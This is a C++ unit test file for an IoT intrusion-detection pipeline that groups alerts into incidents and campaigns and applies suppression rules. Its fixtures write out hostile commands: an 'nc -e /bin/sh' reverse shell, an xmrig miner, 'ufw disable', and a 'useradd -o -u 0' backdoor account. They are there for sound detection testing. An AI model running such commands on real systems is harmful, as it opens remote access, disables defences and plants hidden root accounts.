// Alerts that belong together, and that neither they nor their alerts depend on the order in which records come.
#include <random>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "hub_words.h"
#include "pipeline/attack.h"
#include "pipeline_harness.h"

namespace picket::pipeline {
namespace {

using testing::ElementsAre;
using testing::IsEmpty;
using testing::SizeIs;

/// The newest change of each incident that stands by itself.
std::vector<IncidentChange> standing(const EngineHarness& pipeline, std::string_view kind = {}) {
  std::map<std::string, IncidentChange> newest;
  for (const IncidentChange& change : pipeline.incidents) newest.insert_or_assign(change.incident_id, change);
  std::vector<IncidentChange> out;
  for (auto& [id, change] : newest) {
    if (change.merged_into.empty() && (kind.empty() || change.kind == kind)) out.push_back(change);
  }
  return out;
}

TestRecord from(const std::string& device, const std::vector<TestEvent>& events, Timestamp enqueued) {
  TestRecord out{.body = message_json(events), .enqueued = enqueued};
  out.identity.device_id = device;
  return out;
}

TestEvent shell(const std::string& address, Timestamp time, int pid = 700) {
  return process("/bin/nc", "nc -e /bin/sh " + address + " 4444", {{"ProcessId", std::to_string(pid)}}, time);
}

TestEvent miner(Timestamp time, int pid = 800) {
  return process("/tmp/xmrig", "/tmp/xmrig -o stratum+tcp://pool.example:3333",
                 {{"ProcessId", std::to_string(pid)}, {"UserName", "www"}}, time);
}

TestEvent firewall_off(Timestamp time, int pid = 900) {
  return process("/usr/sbin/ufw", "ufw disable", {{"ProcessId", std::to_string(pid)}}, time);
}

std::vector<TestEvent> guesses(const std::string& address, Timestamp from, int count) {
  std::vector<TestEvent> out;
  for (int i = 0; i < count; ++i) out.push_back(failed_login(from + Duration::seconds(i), address));
  return out;
}

void tick(EngineHarness& pipeline, Timestamp time) {
  pipeline.feed({.body = "{}", .enqueued = time, .kind = journal::RecordKind::tick});
}

TEST(Incidents, OneAlertIsNone) {
  EngineHarness pipeline;
  pipeline.feed({miner(noon(0))});
  ASSERT_THAT(pipeline.alerts("IoT_CryptoMiner"), SizeIs(1));
  EXPECT_THAT(pipeline.incidents, IsEmpty());
}

TEST(Incidents, AlertsThatShareAnAddressOnADeviceBelongTogether) {
  EngineHarness pipeline;
  pipeline.feed(guesses("192.0.2.7", noon(0), 6), noon(6));
  pipeline.feed({shell("192.0.2.7", noon(4 * 3600))}, noon(4 * 3600));  // hours later
  const auto found = standing(pipeline);
  ASSERT_THAT(found, SizeIs(1));
  EXPECT_EQ(found[0].kind, "device");
  EXPECT_EQ(found[0].device.device_id, "device-1");
  EXPECT_EQ(found[0].severity, "High");
  EXPECT_THAT(found[0].reasons, testing::Contains("address 192.0.2.7"));
  EXPECT_THAT(found[0].tactics, testing::IsSupersetOf({"Execution", "CredentialAccess", "CommandAndControl"}));
  EXPECT_EQ(found[0].start, noon(0));
  EXPECT_EQ(found[0].end, noon(4 * 3600));
  EXPECT_EQ(found[0].title.find("Multi-stage incident on device-1: "), 0u) << found[0].title;
}

TEST(Incidents, StagesThatFollowEachOtherWithinAnHourBelongTogether) {
  EngineHarness pipeline;
  pipeline.feed({firewall_off(noon(0))}, noon(0));
  pipeline.feed({miner(noon(1800))}, noon(1800));
  ASSERT_THAT(standing(pipeline), SizeIs(1));
  EXPECT_THAT(standing(pipeline)[0].reasons, ElementsAre("stages of an attack that follow each other"));

  EngineHarness later;
  later.feed({firewall_off(noon(0))}, noon(0));
  later.feed({miner(noon(2 * 3600))}, noon(2 * 3600));
  EXPECT_THAT(standing(later), IsEmpty()) << "nothing else in common";
}

TEST(Incidents, DevicesAreKeptApart) {
  EngineHarness pipeline;
  pipeline.feed(from("a", {firewall_off(noon(0))}, noon(0)));
  pipeline.feed(from("b", {miner(noon(10))}, noon(10)));
  EXPECT_THAT(standing(pipeline), IsEmpty());
}

TEST(Incidents, OneAddressOnThreeDevicesIsACampaign) {
  EngineHarness pipeline;
  for (const char* const device : {"a", "b"}) pipeline.feed(from(device, {shell("198.51.100.9", noon(0))}, noon(0)));
  EXPECT_THAT(standing(pipeline), IsEmpty());
  pipeline.feed(from("c", {shell("198.51.100.9", noon(60))}, noon(60)));
  const auto found = standing(pipeline);
  ASSERT_THAT(found, SizeIs(1));
  EXPECT_EQ(found[0].kind, "campaign");
  EXPECT_EQ(found[0].key, "address 198.51.100.9");
  EXPECT_THAT(found[0].devices, ElementsAre("a", "b", "c"));
  EXPECT_THAT(found[0].alerts, SizeIs(3));
}

TEST(Incidents, OneAlertOnFiveDevicesIsACampaign) {
  EngineHarness pipeline;
  for (int i = 0; i < 5; ++i) {
    EXPECT_THAT(standing(pipeline), IsEmpty()) << i;
    pipeline.feed(from("device-" + std::to_string(i), {miner(noon(i))}, noon(i)));
  }
  ASSERT_THAT(standing(pipeline), SizeIs(1));
  EXPECT_EQ(standing(pipeline)[0].key, "type IoT_CryptoMiner");
}

TEST(Incidents, WhatIsWhollyPartOfACampaignIsMergedAndComesBack) {
  EngineHarness pipeline;
  // On each device guessing and a shell, all of one address: a device's incident first, then a campaign that has it
  // all.
  for (const char* const device : {"a", "b", "c"}) {
    auto events = guesses("198.51.100.9", noon(0), 6);
    events.push_back(shell("198.51.100.9", noon(20)));
    pipeline.feed(from(device, events, noon(30)));
  }
  ASSERT_THAT(standing(pipeline, "campaign"), testing::Not(IsEmpty()));
  EXPECT_THAT(standing(pipeline, "device"), IsEmpty());
  EXPECT_GE(standing(pipeline, "campaign")[0].alerts.size(), 6u);
  // Something on device a that has nothing to do with that address, but follows it.
  pipeline.feed(from("a", {miner(noon(60))}, noon(60)));
  tick(pipeline, noon(200));
  ASSERT_THAT(standing(pipeline, "device"), SizeIs(1));
  EXPECT_EQ(standing(pipeline, "device")[0].device.device_id, "a");
}

TEST(Incidents, AreTheSameAfterARestart) {
  EngineHarness whole;
  EngineHarness halved;
  for (int i = 0; i < 12; ++i) {
    const auto record =
        from("device-" + std::to_string(i % 4),
             {i % 3 == 0 ? miner(noon(i)) : shell("198.51.100.9", noon(i)), firewall_off(noon(i))}, noon(i * 40));
    whole.feed(record);
    halved.feed(record);
    halved.restart();
  }
  tick(whole, noon(900));
  tick(halved, noon(900));
  EXPECT_EQ(whole.incidents, halved.incidents);
  EXPECT_THAT(standing(whole), testing::Not(IsEmpty()));
}

TEST(Incidents, BodyIsReadAsItWasWritten) {
  EngineHarness pipeline;
  pipeline.feed({firewall_off(noon(0)), miner(noon(1))}, noon(2));
  ASSERT_THAT(pipeline.incidents, testing::Not(IsEmpty()));
  for (const IncidentChange& change : pipeline.incidents) EXPECT_EQ(parse_incident_change(to_json(change)), change);
  const std::string body = to_json(pipeline.incidents[0]);
  for (std::size_t cut = 0; cut < body.size(); ++cut) EXPECT_FALSE(parse_incident_change(body.substr(0, cut))) << cut;
  EXPECT_FALSE(parse_incident_change(R"({"Format":2})"));
}

// What is left when everything that names the order of arrival is taken out.
struct Verdicts {
  std::vector<std::string> alerts;
  std::vector<std::string> incidents;
};

Verdicts verdicts_of(const EngineHarness& pipeline) {
  Verdicts out;
  for (AlertChange alert : pipeline.alerts()) {
    alert.change = 0;
    alert.source = {};
    alert.generated = {};
    std::ranges::sort(alert.properties);
    std::ranges::sort(alert.entities, {}, [](const Entity& one) { return std::pair(one.type, one.members); });
    for (EvidenceRow& row : alert.evidence) row.row.sequence = 0;
    std::ranges::sort(alert.evidence, {},
                      [](const EvidenceRow& one) { return std::tuple(one.time, one.raw_event_id, one.row.item); });
    for (EvidenceRow& row : alert.evidence) row.row.event = 0;
    out.alerts.push_back(to_json(alert));
  }
  for (IncidentChange incident : standing(pipeline)) {
    incident.change = 0;
    incident.source = {};
    incident.generated = {};
    out.incidents.push_back(to_json(incident));
  }
  return out;
}

/// Attacks of all kinds on several devices over 50 minutes, as batches of their agents: each is one message.
std::vector<TestRecord> batches(std::uint32_t seed) {
  std::mt19937 random(seed);
  std::vector<TestRecord> out;
  int number = 0;
  const auto add = [&](int device, std::vector<TestEvent> events, int second) {
    for (std::size_t i = 0; i < events.size(); ++i) {
      events[i].id = "e" + std::to_string(number) + "-" + std::to_string(i);
    }
    TestRecord record = from("device-" + std::to_string(device), events, noon(second + 5));
    record.properties = {{"$.mid", "m" + std::to_string(number++)}};
    out.push_back(record);
  };
  for (int second = 0; second < 3000; second += 60) {
    const int device = static_cast<int>(random() % 7);
    const std::string address = "198.51.100." + std::to_string(random() % 3);
    const Timestamp time = noon(second);
    const int pid = 1000 + second;  // no process is another's parent
    switch (random() % 6) {
      case 0:
        // One address guesses on one device only: which device a finding over several names goes by their order.
        add(device, guesses("203.0.113." + std::to_string(device), time, 3 + static_cast<int>(random() % 5)), second);
        break;
      case 1:
        add(device, {good_login(time, "192.0.2.77", "operator")}, second);
        break;
      case 2:
        add(device, {shell(address, time, pid)}, second);
        break;
      case 3:
        add(device, {miner(time, pid)}, second);
        break;
      case 4:
        add(device, {firewall_off(time, pid)}, second);
        break;
      default:
        add(device,
            {process("/usr/sbin/useradd", "useradd -o -u 0 helper", {{"ProcessId", std::to_string(pid)}}, time)},
            second);
        break;
    }
  }
  return out;
}

Verdicts run(std::vector<TestRecord> records, bool restart) {
  EngineHarness pipeline;
  Timestamp enqueued = kNoon;
  for (std::size_t i = 0; i < records.size(); ++i) {
    enqueued = std::max(enqueued, records[i].enqueued);  // a journal's clock never goes back
    records[i].enqueued = enqueued;
    pipeline.feed(records[i]);
    if (restart && i == records.size() / 2) pipeline.restart();
  }
  for (int minute = 1; minute <= 3; ++minute) tick(pipeline, noon(4000 + minute * 61));
  return verdicts_of(pipeline);
}

TEST(Incidents, LateReorderedAndRepeatedBatchesGiveTheSameAlertsAndIncidents) {
  std::size_t incidents = 0;
  for (std::uint32_t seed = 1; seed <= 3; ++seed) {
    const auto ordered = batches(seed);
    const Verdicts expected = run(ordered, false);
    ASSERT_GT(expected.alerts.size(), 10u);
    incidents += expected.incidents.size();
    std::mt19937 random(seed * 77);
    for (int round = 0; round < 3; ++round) {
      auto mixed = ordered;
      for (std::size_t i = 0; i < ordered.size(); i += 4) mixed.push_back(ordered[i]);  // sent again
      std::ranges::shuffle(mixed, random);
      // All within the ten minutes for which an id is known: everything is late, the last by 50 minutes.
      for (std::size_t i = 0; i < mixed.size(); ++i) mixed[i].enqueued = noon(3000 + static_cast<std::int64_t>(i) * 5);
      const Verdicts got = run(mixed, round % 2 == 1);
      ASSERT_EQ(got.alerts, expected.alerts) << "seed " << seed << ", round " << round;
      ASSERT_EQ(got.incidents, expected.incidents) << "seed " << seed << ", round " << round;
    }
  }
  EXPECT_GE(incidents, 3u) << "the attacks make incidents";
}

TEST(Incidents, WhatComesDaysLateIsPartOfTheAlertOfItsDay) {
  EngineHarness pipeline;
  pipeline.feed({miner(noon(0), 1)}, noon(0));
  pipeline.feed({miner(noon(3 * 86'400), 2)}, noon(3 * 86'400));
  ASSERT_THAT(pipeline.alerts("IoT_CryptoMiner"), SizeIs(2));
  pipeline.restart();
  pipeline.feed({miner(noon(60), 3)}, noon(3 * 86'400 + 60));
  ASSERT_THAT(pipeline.alerts("IoT_CryptoMiner"), SizeIs(2));
  std::uint64_t count = 0;
  for (const auto& alert : pipeline.alerts("IoT_CryptoMiner")) count += alert.count;
  EXPECT_EQ(count, 3u);
}

TestRecord suppress(const std::string& id, const std::string& rule, Timestamp time) {
  TestRecord record = audit("suppression.set", {{"object", id}}, time);
  record.body.pop_back();  // the resource is no text
  record.body += R"(,"resource":)" + rule + "}";
  return record;
}

TEST(Suppression, StoresWhatMatchesAsSuppressedUntilItExpires) {
  EngineHarness pipeline;
  pipeline.feed(suppress("known",
                         R"({"reason":"our own pool","expires":")" + format_rfc3339(noon(100)) +
                             R"(","match":{"type":"iot_cryptominer","device":"device-*"}})",
                         noon(0)));
  pipeline.feed({miner(noon(10), 1), firewall_off(noon(10))}, noon(10));
  ASSERT_THAT(pipeline.alerts("IoT_CryptoMiner"), SizeIs(1));
  EXPECT_EQ(pipeline.alerts("IoT_CryptoMiner")[0].suppressed_by, "known");
  EXPECT_TRUE(pipeline.alerts("IoT_DisableFirewall")[0].suppressed_by.empty());
  EXPECT_THAT(standing(pipeline), IsEmpty()) << "what is suppressed makes no incident";
  pipeline.restart();
  pipeline.feed({miner(noon(90), 1)}, noon(99));
  EXPECT_EQ(pipeline.alerts("IoT_CryptoMiner")[0].count, 2u);
  pipeline.feed({miner(noon(101), 1)}, noon(101));
  ASSERT_THAT(pipeline.alerts("IoT_CryptoMiner"), SizeIs(2)) << "an alert of its own beside the suppressed one";
}

TEST(Suppression, EachMemberMustMatch) {
  const auto suppressed = [](const std::string& match) {
    EngineHarness pipeline;
    pipeline.feed(suppress("s", R"({"reason":"r","match":)" + match + "}", noon(0)));
    pipeline.feed({shell("192.0.2.7", noon(1))}, noon(1));
    EXPECT_THAT(pipeline.alerts("IoT_ReverseShell"), SizeIs(1));
    return !pipeline.alerts("IoT_ReverseShell")[0].suppressed_by.empty();
  };
  EXPECT_TRUE(suppressed(R"({"type":"IoT_ReverseShell"})"));
  EXPECT_TRUE(suppressed(R"({"entity":{"type":"process","value":"nc -e*"}})"));
  EXPECT_TRUE(suppressed(R"({"entity":{"value":"*192.0.2.7*"},"device":"device-1","group":"default"})"));
  EXPECT_TRUE(suppressed(R"({"field":{"name":"commandline","value":"nc -e *"}})"));
  EXPECT_FALSE(suppressed(R"({"type":"IoT_CryptoMiner"})"));
  EXPECT_FALSE(suppressed(R"({"type":"IoT_ReverseShell","device":"device-2"})"));
  EXPECT_FALSE(suppressed(R"({"type":"IoT_ReverseShell","group":"presses"})"));
  EXPECT_FALSE(suppressed(R"({"entity":{"type":"account","value":"192.0.2.7"}})"));
  EXPECT_FALSE(suppressed(R"({"field":{"name":"CommandLine","value":"nc"}})"));
}

TEST(Suppression, RefusesWhatWouldDismissEverythingOrHasNoReason) {
  for (const char* const rule :
       {R"({"reason":"r","match":{}})", R"({"reason":"r","match":{"device":"*"}})", R"({"match":{"type":"T"}})",
        R"({"reason":"r","match":{"type":"T","typo":"x"}})", R"({"reason":"r","match":{"type":7}})",
        R"({"reason":"r","match":{"field":{"name":"a"}}})", R"({"reason":"r","match":{"type":"T"},"expires":"soon"})",
        "[]", ""}) {
    EXPECT_FALSE(parse_suppression(rule)) << rule;
  }
  const auto whole = parse_suppression(
      R"({"name":"n","reason":"r","match":{"type":"T","entity":{"type":"ip","value":"1"},"field":{"name":"f","value":"v"}},"expires":"2027-01-01T00:00:00Z","enabled":false})");
  ASSERT_TRUE(whole);
  EXPECT_EQ(parse_suppression(to_json(*whole)), *whole);
}

TEST(Attack, OldIdsAreTodaysAndBack) {
  EXPECT_EQ(current_technique("T1562.004"), "T1686");
  EXPECT_EQ(current_technique("T1686"), "T1686");
  EXPECT_THAT(former_techniques("T1685"), ElementsAre("T1562", "T1562.001", "T1562.006"));
  for (const TechniqueAlias& alias : technique_aliases()) {
    EXPECT_EQ(current_technique(alias.now), alias.now) << alias.before << " is not resolved in one step";
  }
  for (const auto& [type, info] : Catalogue::builtin().all()) {
    for (const std::string& id : info.techniques) EXPECT_EQ(current_technique(id), id) << type;
  }
}

TEST(Suppression, PatternsFitAsAModelSays) {
  EXPECT_TRUE(glob_match("", ""));
  EXPECT_TRUE(glob_match("*", ""));
  EXPECT_TRUE(glob_match("a*b*c", "a-b-b-c"));
  EXPECT_TRUE(glob_match("?x*", "axyz"));
  EXPECT_FALSE(glob_match("a*b", "acbx"));
  EXPECT_FALSE(glob_match("?", ""));
  EXPECT_FALSE(glob_match(std::string(64, '*') + "b", std::string(4096, 'a')));
}

}  // namespace
}  // namespace picket::pipeline
